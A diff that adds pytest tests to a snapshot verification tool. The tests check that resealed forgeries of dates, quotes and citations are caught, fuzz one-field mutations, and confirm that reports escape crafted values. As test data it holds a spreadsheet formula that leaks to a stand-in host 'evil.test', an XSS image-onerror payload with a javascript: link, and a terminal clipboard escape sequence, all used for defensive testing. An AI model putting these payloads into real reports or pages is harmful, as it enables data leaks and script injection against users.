@@ -585,3 +585,183 @@ def test_replaying_the_snapshot_har_gives_the_recorded_blocks(audit: Any, home: 
     r = run("clean", charter, "--snapshot", tmp_path / "replay.jsonl")
     assert r.exit_code == 0, r.output
     assert run("verify", tmp_path / "replay.jsonl").exit_code == 0
+
+
+# -- resealed forgeries, checked against the genuine HAR ----------------------------------------------------------
+
+
+def _chunk_of(records: list[dict[str, Any]], cid: str) -> dict[str, Any]:
+    return next(r for r in records if r["type"] == "chunk" and r["id"] == cid)
+
+
+def _forge_date(records: list[dict[str, Any]]) -> None:
+    """A later last-updated date, everywhere the snapshot states it for the cited page."""
+    block = _first_block(records)
+    for r in records:
+        if r["type"] in ("page", "chunk") and block["url"] in (r.get("final_url"), r.get("url")):
+            r["last_updated"] = "2031-01-01"
+    for s in next(r for r in records if r["type"] == "synthesis")["sections"]:
+        for b in s["blocks"]:
+            if b["url"] == block["url"]:
+                b["markdown"] = b["markdown"].replace(f"(last updated: {b['last_updated'] or 'unknown'})",
+                                                      "(last updated: 2031-01-01)")
+                b["last_updated"] = "2031-01-01"
+
+
+def _forge_quote(records: list[dict[str, Any]]) -> None:
+    """The quote changed, and its chunk's text and id recomputed so that every hash holds."""
+    from memory_store.chunking import chunk_id
+
+    block = _first_block(records)
+    chunk = _chunk_of(records, block["chunk_id"])
+    old, new_text = chunk["id"], chunk["text"].replace("1953", "1935")
+    assert new_text != chunk["text"]
+    chunk["text"], chunk["id"] = new_text, chunk_id(new_text)
+    for r in records:
+        if r["type"] == "page" and old in r["chunk_ids"]:
+            r["chunk_ids"] = [chunk["id"] if c == old else c for c in r["chunk_ids"]]
+            r["text"] = r["text"].replace("1953", "1935")
+        if r["type"] == "concept_pointer" and r["chunk_id"] == old:
+            r["chunk_id"] = chunk["id"]
+    block["quote"] = block["quote"].replace("1953", "1935")
+    block["markdown"] = block["markdown"].replace("1953", "1935")
+    block["chunk_id"] = chunk["id"]
+
+
+def _forge_citation(records: list[dict[str, Any]]) -> None:
+    """The block re-cited to another stored page, that page now listing the chunk among its own."""
+    block = _first_block(records)
+    chunk = _chunk_of(records, block["chunk_id"])
+    other = next(r for r in records if r["type"] == "page" and r["final_url"] not in (block["url"],
+                                                                                       *chunk["also_seen_at"]))
+    chunk["also_seen_at"] = [*chunk["also_seen_at"], other["final_url"]]
+    other["chunk_ids"] = [*other["chunk_ids"], chunk["id"]]
+    shown = lambda u: u.split("://", 1)[1]  # noqa: E731
+    block["markdown"] = block["markdown"].replace(shown(block["url"]), shown(other["final_url"]))
+    block["url"], block["last_updated"] = other["final_url"], other["last_updated"]
+
+
+@pytest.mark.parametrize("forge", [_forge_date, _forge_quote, _forge_citation], ids=["date", "quote", "citation"])
+def test_verify_with_the_genuine_har_catches_resealed_forgeries(audit: Any, home: Path, tmp_path: Path,
+                                                                forge: Any) -> None:
+    forged = tampered(audit, tmp_path, forge)  # manifest resealed; the HAR beside it is the genuine one
+    assert run("verify", forged, "--no-har").exit_code == 0  # the snapshot alone holds together
+    r = run("verify", forged, "--json")
+    doc = json.loads(r.stdout)
+    assert r.exit_code == 1 and not doc["ok"], doc["verdict"]
+    assert {f["check"] for f in doc["failures"]} == {"provenance"}, doc["failures"]
+
+
+def test_verify_a_citation_of_a_page_that_does_not_hold_the_chunk(audit: Any, home: Path, tmp_path: Path) -> None:
+    def recite(records: list[dict[str, Any]]) -> None:
+        _forge_citation(records)
+        block = _first_block(records)
+        page = next(r for r in records if r["type"] == "page" and r["final_url"] == block["url"])
+        page["chunk_ids"].remove(block["chunk_id"])  # the page no longer lists it: only also_seen_at does
+
+    doc = json.loads(run("verify", tampered(audit, tmp_path, recite), "--no-har", "--json").stdout)
+    assert any("does not hold chunk" in f["message"] for f in doc["failures"]), doc["failures"]
+
+
+# -- crafted snapshots: a schema, never a traceback ----------------------------------------------------------------
+
+HOSTILE_VALUES = [None, 0, -1, 10**30, 1.5, "", '=HYPERLINK("http://evil.test")', [], {}, [None], True,
+                  "\x1b]52;c;AAAA\x07", {"a": [1]}, "x"]
+
+
+def _field_paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
+    out: list[tuple[Any, ...]] = []
+    if isinstance(value, dict):
+        for key, v in value.items():
+            if prefix or key != "type":
+                out.append((*prefix, key))
+                if len(prefix) < 4:
+                    out += _field_paths(v, (*prefix, key))
+    elif isinstance(value, list) and value:
+        out.append((*prefix, 0))
+        if len(prefix) < 4 and not all(isinstance(x, float) for x in value):
+            out += _field_paths(value[0], (*prefix, 0))
+    return out
+
+
+def _mutations(records: list[dict[str, Any]], count: int) -> list[tuple[int, tuple[Any, ...], Any, bool]]:
+    """``count`` one-field mutations (record, field path, new value, delete?) spread over every record type."""
+    import random
+
+    fields = [(i, p) for i, r in enumerate(records) for p in _field_paths(r)]
+    random.Random(34).shuffle(fields)
+    by_type: dict[str, list[tuple[int, tuple[Any, ...]]]] = {}
+    for i, p in fields:
+        by_type.setdefault(records[i]["type"], []).append((i, p))
+    picked: list[tuple[int, tuple[Any, ...]]] = []
+    while len(picked) < count and any(by_type.values()):
+        for queue in by_type.values():  # round robin: every record type gets its share
+            if queue and len(picked) < count:
+                picked.append(queue.pop())
+    return [(i, p, HOSTILE_VALUES[n % len(HOSTILE_VALUES)], n % 7 == 6) for n, (i, p) in enumerate(picked)]
+
+
+def _mutated(records: list[dict[str, Any]], index: int, path: tuple[Any, ...], value: Any, delete: bool) -> list[Any]:
+    import copy
+
+    out = copy.deepcopy(records)
+    node = out[index]
+    for key in path[:-1]:
+        node = node[key]
+    if delete and isinstance(node, dict):
+        del node[path[-1]]
+    else:
+        node[path[-1]] = value
+    return out
+
+
+def test_fuzz_one_field_mutations_get_a_verdict_or_a_clean_error(audit: Any, home: Path, tmp_path: Path) -> None:
+    """300 one-field mutations of a real snapshot (resealed, the genuine HAR beside each): verify always gives a
+    verdict or a clean error, never a traceback; so does restore --force (on every fifth)."""
+    records = read_records(audit.snapshot)
+    mutations = _mutations(records, 300)
+    assert len({records[i]["type"] for i, _p, _v, _d in mutations}) >= 10
+    crashes: list[str] = []
+    for n, (index, path, value, delete) in enumerate(mutations):
+        snap = write_records(_mutated(records, index, path, value, delete), tmp_path / f"m{n}.jsonl")
+        shutil.copyfile(audit.snapshot.with_suffix(".har"), snap.with_suffix(".har"))
+        what = f"{records[index]['type']}.{'.'.join(map(str, path))} = {value!r}{' (deleted)' if delete else ''}"
+        runs = [("verify", snap)] + ([("restore", snap, "--force", "--id", f"fuzz_{n}", "--charter",
+                                       tmp_path / f"c{n}.yaml")] if n % 5 == 0 else [])
+        for args in runs:
+            r = run(*args)
+            if (r.exception is not None and not isinstance(r.exception, SystemExit)) or r.exit_code not in (0, 1, 2):
+                crashes.append(f"{args[0]} {what}: {r.exception!r}")
+            elif r.exit_code and not r.output.strip():
+                crashes.append(f"{args[0]} {what}: exit {r.exit_code} without a message")
+        shutil.rmtree(home / "memory" / f"fuzz_{n}", ignore_errors=True)
+        snap.unlink()
+    assert not crashes, "\n".join(crashes)
+
+
+def test_reports_of_a_crafted_snapshot_escape_every_cell(audit: Any, home: Path, tmp_path: Path) -> None:
+    """A snapshot that holds together by itself (verify --no-har: OK) with a formula for a date and markup for
+    a title: every CSV cell is neutralised, the Markdown Sources table shows the markup as text."""
+    formula = '=HYPERLINK("http://evil.test/?leak","click")'
+    title = '<img src=x onerror=alert(1)> [x](javascript:alert(1))'
+
+    def craft(records: list[dict[str, Any]]) -> None:
+        block = _first_block(records)
+        for r in records:
+            if r["type"] in ("page", "chunk") and block["url"] in (r.get("final_url"), r.get("url")):
+                r["last_updated"] = formula
+                r["title"] = title
+        for s in next(r for r in records if r["type"] == "synthesis")["sections"]:
+            for b in s["blocks"]:
+                if b["url"] == block["url"]:
+                    b["last_updated"] = formula
+                    b.pop("markdown", None)
+
+    snap = tampered(audit, tmp_path, craft)
+    assert run("verify", snap, "--no-har").exit_code == 0
+    rows = list(csv.reader(io.StringIO(run("report", snap, "--format", "csv").stdout, newline="")))
+    cells = [c for row in rows[1:] for c in row]
+    assert f"'{formula}" in cells and not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    md = run("report", snap, "--format", "md").stdout
+    assert "\\<img src=x onerror=alert(1)\\> \\[x\\](javascript:alert(1))" in md
+    assert "<img" not in md.replace("\\<img", "") and "](javascript" not in md.replace("\\](javascript", "")
